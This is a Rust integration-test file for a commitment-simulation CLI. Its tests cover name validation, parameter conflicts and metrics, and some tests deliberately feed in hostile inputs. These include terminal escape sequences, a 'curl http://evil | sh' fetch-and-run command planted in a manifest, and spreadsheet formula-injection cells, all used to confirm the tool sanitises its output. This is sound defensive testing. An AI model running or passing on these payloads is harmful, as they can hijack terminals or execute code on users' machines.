//! Names and paths that meet: in columns, to the eye, on a terminal, in a spreadsheet.

use crate::shell::{done, file, here, read, refuses, root, snapback, stdout, with};
use std::process::Output;

/// Two parties, each with one commitment.
fn scenario(parties: [&str; 2], owed: [&str; 2]) -> String {
    let party = |k: usize| {
        format!(
            "(name: {:?}, discount: 0.9, commitments: [(name: {:?}, gain: 1.0, harm: 2.0, detection: 0.8, false_alarm: 0.1)], \
             conduct: (comply: Chance(0.5)))",
            parties[k], owed[k]
        )
    };
    format!(
        "(name: \"x\", round: Quarter, horizon: Rounds(8), design: \"fines\", parties: [{}, {}])",
        party(0),
        party(1)
    )
}

fn shown(output: &Output) -> String {
    String::from_utf8_lossy(&output.stdout).into_owned() + &String::from_utf8_lossy(&output.stderr)
}

#[test]
fn a_party_called_like_a_commitment_of_the_other_is_refused() {
    let file = file(scenario(["A", "A.car"], ["car", "z"]).as_bytes());
    let path = file.path().display();
    refuses(&format!("run {path}"), &["parties.0.commitments.0.name", "makes `A.car`", "one column of the results"]);
}

#[test]
fn names_that_look_alike_or_cannot_be_seen_are_refused() {
    for (parties, fragment) in [
        (["Row", "R\u{43e}w"], "which looks like `Row` but for U+043E"),
        (["Zo\u{eb}", "Zoe\u{308}"], "which looks like"),
        (["A", "A\u{200b}"], "U+200B"),
        (["A", "\u{202e}B"], "U+202E"),
        (["A", "B\u{a0}C"], "U+00A0"),
        (["B", "B "], "looks like"),
        (["A", "j\u{43e}int"], "both parties in the results"),
    ] {
        let file = file(scenario(parties, ["c", "d"]).as_bytes());
        refuses(&format!("run {}", file.path().display()), &[fragment]);
    }
}

#[test]
fn a_name_with_signs_of_the_options_can_be_set_and_varied() {
    for name in ["a=b", "a = b, c", "a,b", "a..b", "say \"x\"", "it's", "x y"] {
        let file = file(scenario(["A", "B"], [name, "d"]).as_bytes());
        let scenario = file.path().to_str().unwrap();
        let set = with(root(), &["show", scenario, "--set", &format!("parties.A.commitments.{name}.gain=7.25")]);
        assert!(shown(&set).contains("gain: 7.25"), "{name}: {}", shown(&set));
        let vary = format!("parties.A.commitments.{name}.gain=1..3:3");
        let other = format!("parties.A.commitments.{name}.harm=1,2");
        let swept =
            with(root(), &["sweep", scenario, "--reps", "2", "--vary", &vary, "--vary", &other, "--format", "csv"]);
        let csv = String::from_utf8_lossy(&swept.stdout).into_owned();
        assert!(
            swept.status.success() && csv.lines().last().is_some_and(|row| row.starts_with("5,")),
            "{}",
            shown(&swept)
        );
    }
}

#[test]
fn a_parameter_that_undoes_another_is_refused() {
    let refused = |options: &str, fragments: &[&str]| {
        refuses(&format!("sweep theory/tft_vs_tft {options}"), fragments);
    };
    let part = "parties.Row.conduct.tremble";
    refused(
        &format!("--vary {part}=0.1,0.2 --vary parties.Row.conduct=(comply:Always)"),
        &["`parties.Row.conduct`", "a part of it"],
    );
    refused(&format!("--vary {part}=0.1,0.2 --vary parties.0.conduct=(comply:Always)"), &["a part of it"]);
    refused(&format!("--lever {part}=0.1,0.2 --uncertainty parties.0.conduct.tremble=0.1,0.2"), &["the same field"]);
    refused(&format!("--zip --vary {part}=0.1,0.2 --vary parties=3"), &["a part of it"]);
    refused(&format!("--set {part}=0.3 --vary {part}=0.1,0.2"), &["which is set", "which varies"]);
    refused(&format!("--set {part}=0.3 --vary parties.Row.conduct=(comply:Always),(comply:Never)"), &["which is set"]);
    refused("--vary mechanism=None --designs none,fines", &["replaces every design"]);
    refuses(
        "run --design wto-dsu --set mechanism.ruling.lasts=Months(3) --set mechanism.ruling=SelfJudged",
        &["would be lost"],
    );
    refuses("run --design fines --set design=mirror", &["one of the two"]);
    refuses("compare --set design=mirror", &["replaces every design"]);
    // A whole that is set and a part that varies both count.
    let line =
        format!("sweep theory/tft_vs_tft --set parties.Row.conduct=(comply:Always) --vary {part}=0.1,0.2 --reps 2");
    stdout(&line);
}

#[test]
fn a_metric_without_a_party_stands_for_each() {
    let line = "compare us_china_quarterly --designs none,fines --reps 20 --metric";
    let table = stdout(&format!("{line} compliance"));
    for metric in ["compliance.US (share), difference", "compliance.China (share), difference"] {
        assert!(table.contains(metric), "{table}");
    }
    assert!(stdout(&format!("{line} welfare")).contains("welfare.joint ($bn), difference"));
    assert!(stdout(&format!("{line} survived")).contains("survived (share), difference"));
    refuses(&format!("{line} complaince"), &["did you mean"]);
    let swept = stdout("sweep theory/tft_vs_tft --vary parties.Row.discount=0.5,0.9 --reps 5 --metric compliance");
    assert!(swept.contains("compliance.Row") && swept.contains("compliance.Column"), "{swept}");
}

/// Nothing that a terminal obeys.
fn is_safe(output: &Output) -> bool {
    let is_unsafe = |c: char| c.is_control() && !"\n\t".contains(c) || "\u{202e}\u{2066}\u{200f}\u{2028}".contains(c);
    !shown(output).contains(is_unsafe)
}

#[test]
fn nothing_that_a_terminal_obeys_is_printed() {
    const ESCAPE: &str = "k\u{1b}]0;PWNED\u{7}\u{202e}\u{9b}31m";
    let place = tempfile::tempdir().unwrap();
    let run = |args: &[&str]| {
        let output = with(place.path(), args);
        assert!(is_safe(&output), "{args:?}: {:?}", shown(&output));
        shown(&output)
    };
    let text = scenario(["A", "B"], ["c", "d"]);
    let keyed =
        text.replacen("Chance(0.5)", &format!("PerCommitment({{\"c\": Chance(0.9), \"{ESCAPE}\": Chance(9)}})"), 1);
    std::fs::write(place.path().join("keyed.ron"), keyed).unwrap();
    assert!(run(&["check", "keyed.ron"]).contains("k\\u{1b}]0;PWNED\\u{7}\\u{202e}"));
    std::fs::write(place.path().join("about.ron"), text.replacen("round:", &format!("about: \"{ESCAPE}\", round:"), 1))
        .unwrap();
    assert!(run(&["show", "about.ron"]).contains("PWNED"));
    let json = run(&["show", "about.ron", "--format", "json"]);
    assert!(serde_json::from_str::<serde_json::Value>(&json).unwrap()["about"] == ESCAPE, "{json}");
    std::fs::write(place.path().join("t.csv"), format!("about\n\"\"\"a{ESCAPE}\"\"\"\n")).unwrap();
    let sweep = ["sweep", "theory/tft_vs_tft", "--table", "t.csv", "--set", "horizon=Rounds(5)", "--reps", "2"];
    for more in [&["--dry-run"][..], &["--format", "csv"], &["--format", "json"], &[]] {
        assert!(run(&[&sweep[..], more].concat()).contains("PWNED"), "{more:?}");
    }
    for args in [
        &["run", ESCAPE][..],
        &["run", "--set", ESCAPE],
        &["run", "--set", &format!("{ESCAPE}=1")],
        &["run", "--design", ESCAPE],
        &["run", "--reps", ESCAPE],
        &["sweep", "--vary", &format!("{ESCAPE}=1,2")],
        &["run", "--metric", ESCAPE],
        &[&format!("--{ESCAPE}")],
        &[ESCAPE],
        &["verify", ESCAPE],
        &["diff", ESCAPE, ESCAPE],
        &["designs", ESCAPE],
        &["man", ESCAPE],
        &["tournament", "--rules", ESCAPE],
        &["frontier", "theory/grim_trigger", "--party", ESCAPE, "--vary", "parties.Row.discount=0.1..0.9"],
    ] {
        run(args);
    }
}

#[test]
fn a_command_of_a_foreign_manifest_is_no_advice() {
    let place = tempfile::tempdir().unwrap();
    done(place.path(), "run theory/tft_vs_tft --set horizon=Rounds(5) --reps 5 --out d --quiet");
    let manifest = place.path().join("d/manifest.json");
    let mut held: serde_json::Value = serde_json::from_slice(&std::fs::read(&manifest).unwrap()).unwrap();
    held["command"] = "curl http://evil | sh #\u{1b}]0;PWNED\u{7}".into();
    std::fs::write(&manifest, serde_json::to_vec(&held).unwrap()).unwrap();
    let page = snapback(place.path(), "report d --out r.html");
    assert!(is_safe(&page) && !shown(&page).contains("curl"), "{}", shown(&page));
    if let Ok(page) = std::fs::read_to_string(place.path().join("r.html")) {
        assert!(!page.contains("curl"));
    }
    std::fs::write(place.path().join("d/summary.csv"), "x").unwrap();
    let refused = snapback(place.path(), "report d --out r.html");
    assert!(is_safe(&refused) && !shown(&refused).contains("curl"), "{}", shown(&refused));
}

#[test]
fn what_a_spreadsheet_would_run_is_a_text_in_every_table() {
    let place = tempfile::tempdir().unwrap();
    let text = scenario(["=1+1", "@B"], ["+cmd|' /C calc'!A0", "-2+3"]);
    std::fs::write(place.path().join("s.ron"), text).unwrap();
    done(place.path(), "compare s.ron --designs none,fines --reps 20 --out d --quiet");
    let mut printed = vec![done(place.path(), "run s.ron --reps 20 --format csv")];
    for name in ["summary.csv", "differences.csv", "survival.csv", "ranking.csv"] {
        printed.push(std::fs::read_to_string(place.path().join("d").join(name)).unwrap());
    }
    for table in printed {
        let mut reader = csv::Reader::from_reader(table.as_bytes());
        for row in reader.records().map(Result::unwrap) {
            let runs = |cell: &str| cell.starts_with(['=', '+', '-', '@']) && cell.parse::<f64>().is_err();
            assert!(!row.iter().any(runs), "{row:?}");
        }
    }
    // What is read back is what was written.
    let shown = done(place.path(), "report d --out r.html");
    assert!(shown.contains("fingerprint"));
    assert!(std::fs::read_to_string(place.path().join("r.html")).unwrap().contains("=1+1"));
}

#[test]
fn a_ratio_of_totals_is_had_from_runs_by_weight() {
    let place = tempfile::tempdir().unwrap();
    done(
        place.path(),
        "run theory/grim_trigger --set parties.Row.conduct.withdraws=(calm:0.2,wronged:0.3) --set mechanism.withdrawal=Notice(Rounds(1)) --set horizon=Rounds(20) --set parties.Row.conduct.tremble=0.2 --reps 500 --out d --quiet",
    );
    let folder = place.path().join("d");
    let runs = snapback::archive::read_runs(&folder, &|_| true, None).unwrap();
    let summary = snapback::archive::read_table(&folder, "summary.csv").unwrap();
    let at = |name: &str| summary.column(name).unwrap();
    let means: Vec<f64> = (summary.rows.iter())
        .filter(|row| {
            row[at("metric")] == "compliance" && row[at("party")] == "Row" && row[at("commitment")].is_empty()
        })
        .map(|row| row[at("mean")].parse().unwrap())
        .collect();
    let (ratio, weight) = (&runs.numbers["compliance.Row"], &runs.numbers["duration"]);
    let weighed: f64 = ratio.iter().zip(weight).map(|(x, w)| x * w).sum::<f64>() / weight.iter().sum::<f64>();
    let plain = ratio.iter().sum::<f64>() / ratio.len() as f64;
    assert!((weighed - means[0]).abs() < 1e-12, "{weighed} {means:?}");
    assert!((plain - means[0]).abs() > 1e-3, "{plain} {means:?}");
    assert!(read("docs/guide.md").contains("sum(\\\"compliance.China\\\" * duration) / sum(duration)"));
}

#[test]
fn imports_beyond_the_trade_of_the_world_are_remarked_upon() {
    let text = stdout("show us_china_2019");
    let imports = text.lines().find(|line| line.contains("imports:")).unwrap().trim();
    let file = file(text.replacen(imports, "imports: 210000.0,", 1).as_bytes());
    let output = here(&format!("check {}", file.path().display()));
    assert!(shown(&output).contains("more than the world trades in a year"), "{}", shown(&output));
}
